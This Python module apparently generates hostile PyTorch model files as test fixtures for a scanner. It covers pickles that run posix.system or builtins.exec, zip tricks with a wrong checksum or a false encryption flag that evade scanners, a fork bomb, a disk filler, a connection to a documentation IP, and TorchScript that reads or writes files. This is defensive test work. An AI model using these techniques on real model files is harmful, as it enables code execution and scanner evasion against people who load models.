"""Files of torch that attack: saved objects, exported programs and TorchScript.

Owns the writers. An exported program is made once with torch and its members are exchanged; torch is imported when the
first is asked for.
"""

import io
import json
import warnings
import zipfile
from functools import cache
from pathlib import Path

from sample_models.hostile.attack import Attack, Stop, code
from sample_models.hostile.pickles import call, gadget, pickled
from storage.vocabulary import Format

ENCRYPTED = 0x1
"""The flag of a zip entry that needs a password."""

INPUTS = "data/sample_inputs/model.pt"
"""The member of a program that torch unpickles again without restraint where it could not with restraint."""

WEIGHTS_CONFIG = "data/weights/model_weights_config.json"

CHILDREN = 32
"""Processes that the bomb starts, each of which ends at once: enough to be seen, too few to hurt a test machine."""

BOMB = f"""
import os, threading
for _ in range({CHILDREN}):
    threading.Thread(target=threading.Event().wait, daemon=True).start()
for number in range({CHILDREN}):
    if not os.fork():
        os._exit(0)
print("started", {CHILDREN}, flush=True)
"""

CALLER = "import socket\nsocket.create_connection(('192.0.2.1', 443), 5)\n"
"""An address for documentation (RFC 5737), which answers nobody."""

FILLED = 64
"""Files of 1 MiB: more than a small limit allows, less than any disk lacks."""

FILLER = f"""
for number in range({FILLED}):
    open(f"fill{{number}}", "wb").write(bytes(1024 * 1024))
"""


def saved(file: Path, canary: Path) -> Path:
    """Write what ``torch.save`` makes of an object that starts a program when it is unpickled."""
    file.write_bytes(_archive(gadget("posix.system", canary)))
    return file


def broken_checksum(file: Path, canary: Path) -> Path:
    """Write the same with a wrong checksum, at which Python's zip reader stops and torch's does not."""
    raw = _archive(gadget("posix.system", canary))
    file.write_bytes(_in_directory(raw, 16, b"\xde\xad\xbe\xef"))
    return file


def flagged(file: Path, canary: Path) -> Path:
    """Write the same with the pickle marked as encrypted in the directory, which scanners believe and torch ignores."""
    raw = _archive(gadget("posix.system", canary))
    file.write_bytes(_in_directory(raw, 8, ENCRYPTED.to_bytes(2, "little")))
    return file


def program(file: Path, members: dict[str, bytes]) -> Path:
    """Write an exported program with some of its members exchanged or added."""
    with zipfile.ZipFile(io.BytesIO(_exported())) as good, zipfile.ZipFile(file, "w") as archive:
        root = good.namelist()[0].split("/", 1)[0]
        for entry in good.infolist():
            if entry.filename.removeprefix(f"{root}/") not in members:
                archive.writestr(entry, good.read(entry))
        for name, content in members.items():
            archive.writestr(f"{root}/{name}", content)
    return file


def running(file: Path, source: str) -> Path:
    """Write an exported program that runs Python when it is loaded."""
    return program(file, {INPUTS: _archive(pickled(call("builtins.exec", source, {})))})


def falling_back(file: Path, canary: Path) -> Path:
    """Write a program whose inputs torch's safe loader refuses, and torch then loads without it."""
    return running(file, code(canary))


def bare_weight(file: Path, canary: Path) -> Path:
    """Write a program with a weight that is a bare pickle in the oldest protocol, in no archive that could be looked into."""
    with zipfile.ZipFile(io.BytesIO(_exported())) as good:
        root = good.namelist()[0].split("/", 1)[0]
        described = json.loads(good.read(f"{root}/{WEIGHTS_CONFIG}"))
    weight = next(iter(described["config"].values()))
    weight["use_pickle"] = True
    hostile = f"cos\nmkdir\n(V{canary}\ntR.".encode()
    return program(
        file,
        {
            WEIGHTS_CONFIG: json.dumps(described).encode(),
            f"data/weights/{weight['path_name']}": hostile,
        },
    )


def nested(file: Path, canary: Path) -> Path:
    """Write a program with a pickle in an archive in an archive in the archive."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("archive/data.pkl", pickled([]))
        archive.writestr("archive/data/0", _archive(gadget("os.system", canary)))
    return program(file, {INPUTS: inner.getvalue()})


def compiled(file: Path, canary: Path) -> Path:
    """Write a program with a native library among its members."""
    del canary  # a library's constructor would run when it is mapped; this one has none
    return program(file, {"extra/lib.so": b"\x7fELF" + bytes(500)})


def compiled_package(file: Path, canary: Path) -> Path:
    """Write an AOTInductor package, whose machine code is mapped and run."""
    del canary  # as above
    return program(file, {"data/aotinductor/model/lib.so": bytes(500)})


def bomb(file: Path, canary: Path) -> Path:
    """Write a program that multiplies processes and threads."""
    del canary  # it attacks the machine
    return running(file, BOMB)


def caller(file: Path, canary: Path) -> Path:
    """Write a program that opens a connection."""
    del canary  # it attacks what others keep secret
    return running(file, CALLER)


def filler(file: Path, canary: Path) -> Path:
    """Write a program that fills the disk with small files."""
    del canary  # it attacks the disk
    return running(file, FILLER)


def script(file: Path, body: str) -> Path:
    """Write TorchScript whose forward is ``body``, which is given ``x``."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # torch.jit is deprecated, yet its files are everywhere
        import torch

        # torch remembers a method by the name of its class, so that each module needs one of its own.
        module = type(f"Attack{abs(hash(body))}", (torch.jit.ScriptModule,), {})()
        lines = "\n".join(f"    {line}" for line in body.splitlines())
        module.define(f"def forward(self, x: Tensor) -> Tensor:\n{lines}\n")
        module.save(str(file))
    return file


def reading_script(file: Path, canary: Path) -> Path:
    """Write TorchScript that answers with the bytes of a file, which the canary has to be."""
    read = f'torch.from_file("{canary}", False, 4, dtype=torch.uint8)'
    return script(file, f"return x + {read}.sum().to(torch.float32)")


def writing_script(file: Path, canary: Path) -> Path:
    """Write TorchScript that makes a file each time that it answers."""
    return script(file, f'return x + torch.from_file("{canary}", True, 4, dtype=torch.uint8).sum()')


def endless_script(file: Path, canary: Path) -> Path:
    """Write TorchScript that never answers."""
    del canary  # it attacks whoever waits
    return script(file, "while bool(torch.ones(1).sum() > 0):\n    x = x + 0\nreturn x")


def _archive(content: bytes) -> bytes:
    """Return what ``torch.save`` makes of an object whose pickle is ``content``."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("archive/data.pkl", content)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\n")
    return made.getvalue()


def _in_directory(raw: bytes, offset: int, value: bytes) -> bytes:
    """Change a field of the first entry in a zip archive's directory."""
    at = raw.index(b"PK\x01\x02") + offset
    return raw[:at] + value + raw[at + len(value) :]


@cache
def _exported() -> bytes:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # torch's own
        import torch

        exported = torch.export.export(torch.nn.Linear(2, 2).eval(), (torch.zeros(1, 2),))
        file = io.BytesIO()
        torch.export.save(exported, file)
    return file.getvalue()


ATTACKS = (
    Attack(
        "pickle.pt",
        1,
        "a torch.save archive whose pickle starts a program",
        saved,
        "would run code (posix.system)",
    ),
    Attack(
        "checksum.pt",
        3,
        "the same with a wrong checksum, at which scanners stop and torch does not",
        broken_checksum,
        "would run code (posix.system)",
    ),
    Attack(
        "flagged.pt",
        3,
        "the same marked as encrypted, which scanners believe and torch ignores",
        flagged,
        "says two different things about archive/data.pkl",
    ),
    Attack(
        "nested.pt2",
        4,
        "a program with a pickle in an archive in an archive in the archive",
        nested,
        "contains a nested archive",
        opens_as=Format.TORCH_EXPORT,
    ),
    Attack(
        "fallback.pt2",
        5,
        "a program whose safe load fails, so that torch loads it without restraint",
        falling_back,
        "would run code (builtins.exec)",
        opens_as=Format.TORCH_EXPORT,
    ),
    Attack(
        "weight.pt2",
        5,
        "a program with a weight that is a bare pickle of the oldest protocol",
        bare_weight,
        "would run code (os.mkdir)",
        opens_as=Format.TORCH_EXPORT,
    ),
    Attack("native.pt2", 6, "a program with a native library in it", compiled, "contains native code: "),
    Attack(
        "package.pt2",
        6,
        "an AOTInductor package: machine code in place of a program",
        compiled_package,
        "holds machine code instead of a program",
    ),
    Attack(
        "reading.pt",
        7,
        "TorchScript that answers with a file of its choice",
        reading_script,
        "tried what its sandbox denies",
        Stop.WALLED,
        Format.TORCHSCRIPT,
        reads=True,
    ),
    Attack(
        "writing.pt",
        7,
        "TorchScript that makes a file each time that it answers",
        writing_script,
        "tried what its sandbox denies",
        Stop.WALLED,
        Format.TORCHSCRIPT,
    ),
    Attack(
        "endless.pt",
        7,
        "TorchScript that never answers",
        endless_script,
        "did not answer within",
        Stop.WALLED,
        Format.TORCHSCRIPT,
    ),
    Attack(
        "bomb.pt2",
        20,
        "a program that multiplies processes and threads",
        bomb,
        "would run code (builtins.exec)",
        opens_as=Format.TORCH_EXPORT,
    ),
    Attack(
        "network.pt2",
        21,
        "a program that opens a connection",
        caller,
        "would run code (builtins.exec)",
        opens_as=Format.TORCH_EXPORT,
    ),
    Attack(
        "filler.pt2",
        22,
        "a program that fills the disk with small files",
        filler,
        "would run code (builtins.exec)",
        opens_as=Format.TORCH_EXPORT,
    ),
)
